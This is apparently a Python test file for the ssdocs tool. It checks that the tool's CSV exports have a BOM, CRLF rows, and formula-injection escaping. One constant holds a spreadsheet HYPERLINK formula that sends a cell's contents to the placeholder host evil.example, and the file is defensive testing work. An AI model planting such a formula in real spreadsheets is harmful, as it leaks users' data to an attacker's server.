"""Every CSV ssdocs writes has the same bytes at its edges: a BOM, CRLF rows, inert formulas."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

from click.testing import CliRunner

from ssdocs.cli import (
    cli,
    commands,  # noqa: F401  (registers every command)
)
from ssdocs.core.csvfile import csv_bytes, csv_cell

FIXTURES = Path(__file__).parent / "fixtures"
MINI = ["--checklists", str(FIXTURES / "mini-checklist.yaml")]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_cells() -> None:
    assert csv_cell(None) == ""
    assert csv_cell(HOSTILE) == "'" + HOSTILE
    assert [csv_cell(v) for v in ("+1 call", "-x", "@SUM(A1)", "\tx", "示例市")] == [
        "'+1 call", "'-x", "'@SUM(A1)", "'\tx", "示例市"]
    assert [csv_cell(v) for v in ("-3.2", "+4.0", "-51.9", 7, -1.5)] == ["-3.2", "+4.0", "-51.9", "7", "-1.5"]


def test_bytes() -> None:
    assert csv_bytes(["a", "b"], [["示例", 'say "x", y'], [HOSTILE, None]]) == (
        '\ufeffa,b\r\n示例,"say ""x"", y"\r\n"\'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")",\r\n'
    ).encode("utf-8")


def _hostile_history(tmp_path: Path) -> Path:
    folder = tmp_path / "demo"
    shutil.copytree(FIXTURES / "history" / "demo", folder)
    for path in folder.glob("*.yaml"):
        text = path.read_text(encoding="utf-8").replace("{zh: 示例市, en: Example City}",
                                                        "{zh: '" + HOSTILE.replace("'", "''") + "', en: X}")
        path.write_text(text, encoding="utf-8")
    return folder


def test_trend_csv_has_the_bom_and_the_formula_guard(tmp_path: Path) -> None:
    out = tmp_path / "trend.csv"
    result = CliRunner().invoke(cli, ["trend", str(_hostile_history(tmp_path)), *MINI, "--csv", str(out)],
                                catch_exceptions=False)
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfjurisdiction,jurisdiction_name,")
    assert b"\r\n" in raw and raw.count(b"\n") == raw.count(b"\r\n")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows and {r["jurisdiction_name"] for r in rows} == {"'" + HOSTILE}
    assert any(r["delta"].startswith("-") for r in rows)  # negative numbers stay numbers


def test_trend_csv_to_stdout_is_the_same_bytes(tmp_path: Path) -> None:
    folder = _hostile_history(tmp_path)
    out = tmp_path / "trend.csv"
    runner = CliRunner()
    runner.invoke(cli, ["trend", str(folder), *MINI, "--csv", str(out)], catch_exceptions=False)
    result = runner.invoke(cli, ["trend", str(folder), *MINI, "--csv", "-"], catch_exceptions=False)
    assert result.stdout_bytes == out.read_bytes()


def test_help_says_yyyy_mm_dd() -> None:
    result = CliRunner().invoke(cli, ["questionnaire", "--help"], terminal_width=200)
    assert "--date YYYY-MM-DD" in result.output and "%Y" not in result.output
